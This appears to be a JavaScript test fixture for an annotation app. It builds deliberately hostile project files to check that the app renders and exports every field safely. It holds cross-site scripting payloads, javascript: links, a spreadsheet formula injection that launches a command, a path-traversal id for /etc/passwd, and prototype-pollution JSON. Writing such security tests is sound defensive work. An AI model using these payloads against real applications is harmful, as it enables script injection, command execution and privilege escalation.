// @ts-check
// Project files that nobody should send. Each is opened, shown in every view, and exported in every
// form; what they hold is text everywhere.
import { ATTACK } from "./pages.mjs";

const MARKUP = `"'><img class=foreign src=x onerror="${ATTACK}"><script>${ATTACK}</script>`;

/**
 * A project whose every field that people write holds these words.
 * @param {string} words
 * @param {object} [more]
 */
function everywhere(words, more = {}) {
  const text = `The ferry sank. ${words} The mayor denied it.`;
  const at = (/** @type {string} */ quote) => {
    const start = [...text.slice(0, text.indexOf(quote))].length;
    return { start, end: start + [...quote].length, quote };
  };
  const attributes = { speaker: words, certainty: words, attribution: words, [words.slice(0, 40)]: words };
  const details = { source: words, byline: words, published: words, url: words, language: words, file_name: words };
  return {
    format: "gainsay",
    version: "1.0",
    title: words,
    annotators: [{ id: "p-one", name: words }],
    documents: [
      { id: "d1", title: words, text, ...details },
      { id: "d2", title: `${words} again`, text: `${words}\nThe ferry sank, they say.\n`, ...details },
    ],
    annotations: [
      { id: "a1", doc: "d1", label: "claim", ...at("The ferry sank"), note: words, annotator: "p-one", attributes, group: "g1" },
      { id: "a2", doc: "d1", label: "denial", ...at("denied"), note: words, attributes },
      { id: "a3", doc: "d1", label: "claim", ...at(words), note: words, attributes },
    ],
    relations: [{ id: "r1", type: "denies", from: "a2", to: "a1", note: words }],
    groups: [{ id: "g1", title: words, note: words }],
    spellings: { speaker: { [words.slice(0, 30)]: words } },
    extra: { [words.slice(0, 30)]: { html: words } },
    ...more,
  };
}

/** A small project around some records. @param {object} [more] */
const small = (more = {}) => ({
  format: "gainsay",
  version: "1.0",
  title: "Small",
  documents: [{ id: "d1", title: "Ferry", text: "The ferry sank. The mayor denied it." }],
  annotations: [{ id: "a1", doc: "d1", label: "claim", start: 0, end: 14, quote: "The ferry sank" }],
  relations: [],
  groups: [],
  ...more,
});

const annotation = (/** @type {string} */ id) => ({ id, doc: "d1", label: "claim", start: 0, end: 14, quote: "The ferry sank" });

const IDS = [
  `a"] , script, [x="`, `a" onclick="${ATTACK}" x="`, "a1 a2", "#body", "../../etc/passwd", "javascript:alert(1)", "a\u202eb", "", "__proto__",
  "constructor", "toString", "hasOwnProperty", "x".repeat(10_000), "<b class=foreign>", "%00", "0", "-1", "NaN",
];

/**
 * As text, since what is worst in some of them no object has.
 * @type {{name: string, json: string, leaves: boolean}[]} `leaves` where its words stand in what is exported
 */
export const PROJECTS = [
  ["markup", everywhere(MARKUP)],
  ["attributes", everywhere(`x" onmouseover="${ATTACK}" autofocus onfocus='${ATTACK}' style="position:fixed" y="`)],
  ["links", everywhere(`javascript:${ATTACK}//`)],
  ["web-links", everywhere(`https://foreign.invalid/"onclick="${ATTACK}"><script class=foreign>`)],
  ["markdown", everywhere("[x](javascript:alert(1)) ![p](https://foreign.invalid/p.png) <script>alert(1)</script> `a` | b\n# Head\n- [ ] list\n<img src=x onerror=alert(1)>")],
  ["xml", everywhere(`]]></text></svg><svg class=foreign onload="${ATTACK}"><!-- --><![CDATA[<script>${ATTACK}</script>]]>&lt;&#x3c;script&#x3e;`)],
  ["formula", everywhere("=cmd|' /C calc'!A0")],
  ["formula-tab", everywhere("\t=HYPERLINK(\"https://foreign.invalid/\"&A1,\"x\")")],
  ["formula-wide", everywhere("\uff1d1+1")],
  ["bidi", everywhere("Good \u202eyad\u202c \u2067day \u200b\u{e0041}\u{e0042}")],
  ["templates", everywhere("{{count}} {{constructor.constructor('alert(1)')()}} ${alert(1)} {{name}} $t(problems.empty)")],
  ["zalgo", everywhere("Z\u0310\u0311\u0312\u0313".repeat(100))],
  ["long-names", everywhere("word ".repeat(2_000).trim())],
  ["ids", { ...small(), documents: [...small().documents, ...IDS.map((id, n) => ({ id, title: `Article ${n}`, text: `Text number ${n}.` }))].filter(({ id }, n, all) => all.findIndex((one) => one.id === id) === n), annotations: IDS.map(annotation) }],
  ["labels", { ...small(), schema: { labels: [{ id: "claim", name: MARKUP, key: 1, role: "assertion", order: 1, color: "url(javascript:alert(1))", colour: "red;} * {display:none" }, { id: "b\"] *", name: "\u202e", key: 99, role: "__proto__", order: -1e308 }] } }],
].map(([name, project]) => ({ name: String(name), json: JSON.stringify(project), leaves: true }));

const raw = (/** @type {string} */ name, /** @type {object} */ project, /** @type {[string, string]} */ ...change) =>
  PROJECTS.push({ name, json: JSON.stringify(project).replace(...change), leaves: false });

raw("prototypes", small(), '"title":"Small"', '"title":"Small","__proto__":{"hit":1,"isAdmin":true},"constructor":{"prototype":{"hit":1}},"toString":"x","extra":{"__proto__":{"hit":2}}');
raw("prototype-attributes", small(), '"quote":"The ferry sank"', '"quote":"The ferry sank","attributes":{"__proto__":"x","constructor":"y","speaker":{"__proto__":{"hit":1}}}');
raw("numbers", small(), '"start":0,"end":14', '"start":0,"end":14,"weight":1e308,"order":9007199254740993,"n":-123456789012345678901234567890');
raw("escapes", small(), "The ferry sank. The", "The ferry sank. \\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\u0000\\u2028\\u2029\\ud83d\\ude00 The");
raw("deep-extra", small(), '"groups":[]', `"groups":[],"more":${"[".repeat(90)}"deep"${"]".repeat(90)}`);
raw("crowd-extra", small(), '"groups":[]', `"groups":[],"more":{${Array.from({ length: 900 }, (_, n) => `"on${n}":"alert(1)"`).join(",")}}`);
